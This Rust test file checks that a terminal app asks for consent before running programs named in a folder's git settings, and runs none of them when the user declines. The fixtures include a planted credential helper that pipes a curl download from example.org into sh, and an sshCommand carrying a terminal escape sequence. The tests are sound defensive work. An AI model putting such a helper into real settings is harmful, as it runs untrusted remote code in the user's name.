//! Programs that the settings of a folder name: the screen asks before a sync, and runs none of them before the yes.

use comity::tui::event::{Effect, Event};

use super::{Two, frame};
use crate::support::screen::{Screen, key};

/// Lets the folder's own settings name something.
fn name(screen: &Screen, setting: &str, value: &str) {
    comity::store::repo::Repo::open(&screen.root()).expect("opened").set(setting, Some(value)).expect("set");
}

#[test]
fn before_a_sync_the_screen_shows_the_programs_and_asks_and_a_no_leaves_everything_here() {
    let mut two = Two::new();
    two.one.resize(80, 24);
    name(&two.one, "core.sshCommand", "/tmp/else/ssh --quick\u{1b}[2J");
    name(&two.one, "credential.helper", "!curl -s https://example.org/x | sh");
    two.one.keys("4 Space F5");
    insta::assert_snapshot!(two.one.frame(), @r"
     Sedex a… 1 Home 2 Groups 3 Meet [4 Actions] 5 People 6 Hist 7 Sync   ●SX + ◆AM
     Example. No document of Sedex or amfori; all people and figures are made up.
    ┌ Actions ──────────────────────────────── not closed · 11 of 14 · by due date ┐
    │     No       Title                                   Who                  Due│
    │▌[x] AQ 9QXT  Name two report reviewers from each si… ◆AM Rowan           done│
    │ [x╔══════════════════════════════════════════════════════════════════════╗one│
    │ [!║ Allow the programs that the settings of this folder name?            ║ate│
    │ [~║                                                                      ║Nov│
    │ [~║ They would be run in your name as soon as anything is exchanged:     ║Dec│
    │ [?║   core.sshcommand = /tmp/else/ssh --quick\u{1b}[2J                   ║Dec│
    │ [?║   credential.helper = !curl -s https://example.org/x | sh            ║Dec│
    │ [ ║ Whoever put this folder together may have named them: allow them     ║Dec│
    │ [ ║ only if you know where they come from. You are asked again when they ║Dec│
    │ [~║ change.                                                              ║Dec│
    │ [ ║ If you leave it, none of them is run and nothing is exchanged; what  ║027│
    │   ║ you do is saved here.                                                ║   │
    │   ║                                                                      ║   │
    │   ║▌[ Esc  Leave it ]    [ y  Allow and go on ]                          ║   │
    │   ╚══════════════════════════════════════════════════════════════════════╝   │
    │ AQ-A26-9QXT · done · helped by ●SX Cedar                                     │
    │ Enter opens everything                                                       │
    └──────────────────────────────────────────────────────────────────────────────┘
                                                      Saved · Needs you · 1 to send
     y Yes  Esc Back  Tab Next
    ");
    two.one.keys("Esc");
    insta::assert_snapshot!(two.one.message(), @"Not allowed: nothing was run or exchanged. What you do is saved here");
    two.one.keys("7");
    let shared = two.shared();
    insta::assert_snapshot!(frame(&mut two.one, &shared), @r"
     Sedex a… 1 Home 2 Groups 3 Meet 4 Actions 5 People 6 Hist [7 Sync]   ●SX + ◆AM
     Example. No document of Sedex or amfori; all people and figures are made up.
    ┌ Sync with the shared copy ───────────────────────────────────────────────────┐
    │ Shared copy    /srv/shared.git                                               │
    │ Last sync      today 09:00                                                   │
    │                                                                              │
    │ To send: 1 change                                                            │
    │▌09:00  ●SX Birch   AQ-A26-9QXT: to do -> done (Name two report reviewers fro…│
    │                                                                              │
    │ Received last: nothing                                                       │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    └──────────────────────────────────────────────────────────────────────────────┘
    ┌ What to do next ─────────────────────────────────────────────────────────────┐
    │ The settings of this folder name programs that you have not allowed yet.     │
    │ None of them was run, and nothing was exchanged. What you do is saved here.  │
    │ F5 asks whether you allow them.                                              │
    │ The settings:                                                                │
    │   core.sshcommand = /tmp/else/ssh --quick\u{1b}[2J                           │
    │   credential.helper = !curl -s https://example.org/x | sh                    │
    └──────────────────────────────────────────────────────────────────────────────┘
                                                      Saved · Needs you · 1 to send
     F5 Send and receive  Enter Open  c Shared copy     . More  Ctrl+P Find  ? Help
    ");
    two.one.keys("F5");
    let asked = two.one.frame();
    assert!(asked.contains("Allow the programs"), "{asked}");
    let effects = two.one.ask(Event::Key(key("y")));
    assert!(matches!(effects.as_slice(), [Effect::Trust(named)] if named.len() == 2), "{effects:?}");
    let effects = two.one.ask(Event::Trusted(Box::new(Ok(()))));
    assert!(matches!(effects.as_slice(), [Effect::Sync(_)]), "{effects:?}");
}

#[test]
fn nobody_allows_what_they_have_not_seen() {
    let mut two = Two::new();
    two.one.resize(80, 24);
    // Whoever typed ahead has not read the question.
    name(&two.one, "core.pager", "less -R");
    two.one.keys("F5 y");
    assert!(two.one.frame().contains("Allow the programs"));
    two.one.keys("Esc");
    for nth in 0..9 {
        name(&two.one, &format!("merge.kind{nth}.driver"), "./join %A %B");
    }
    two.one.keys("F5");
    insta::assert_snapshot!(two.one.frame(), @r"
     Sedex a… [1 Home] 2 Groups 3 Meet 4 Actions 5 People 6 Hist 7 Sync   ●SX + ◆AM
     Example. No document of Sedex or amfori; all people and figures are made up.
    ╔ Next meetings ═══════════════════════════════════════════════════════════════╗
    ║▌Fri 20   10:00 CO     Fourth meeting                                72/90 min║
    ║ ╔ The settings of this folder name programs ═══════════════════ Esc closes ╗n║
    ║ ║ They would be run in your name as soon as anything is exchanged:         ║n║
    ║ ║   core.pager = less -R                                                   ║s║
    ╚═║   merge.kind0.driver = ./join %A %B                                      ║═╝
    ┌ ║   merge.kind1.driver = ./join %A %B                                      ║ ┐
    │ ║   merge.kind2.driver = ./join %A %B                                      ║c│
    │ ║   merge.kind3.driver = ./join %A %B                                      ║c│
    │ ║   merge.kind4.driver = ./join %A %B                                      ║ │
    └─║   merge.kind5.driver = ./join %A %B                                      ║─┘
    ┌ ║   merge.kind6.driver = ./join %A %B                                      ║ ┐
    │ ║   merge.kind7.driver = ./join %A %B                                      ║ │
    │ ║   merge.kind8.driver = ./join %A %B                                      ║ │
    │ ║ Nothing was run and nothing exchanged. If you know where they come from, ║…│
    │ ║ `comity trust` allows them; you can go on working here without.          ║…│
    └─╚══════════════════════════════════════════════════════════════════════════╝─┘
    ┌ Latest changes ──────────────────────────────────────────────────────────────┐
    │ 09:00  ●SX Birch  Begin with the example of Sedex and amfori                 │
    └──────────────────────────────────────────────────────────────────────────────┘
                                                Saved · Needs you · last sync 09:00
     ↑ Up  ↓ Down  Esc Back
    ");
    assert!(two.one.keys("y Esc").frame().contains("Needs you"));
}

#[test]
fn who_is_in_a_form_is_not_interrupted_and_a_sync_by_itself_asks_nothing() {
    let mut two = Two::new();
    name(&two.one, "core.pager", "less -R");
    two.one.keys("4 e").event(Event::Due);
    let text = two.one.frame();
    assert!(!text.contains("Allow the programs") && text.contains("Needs you"), "{text}");
    let effects = two.one.ask(Event::Key(key("F5")));
    two.one.perform(effects);
    insta::assert_snapshot!(two.one.message(), @"The settings of this folder name programs that you have not allowed yet.");
    assert!(!two.one.frame().contains("Allow the programs"));
}
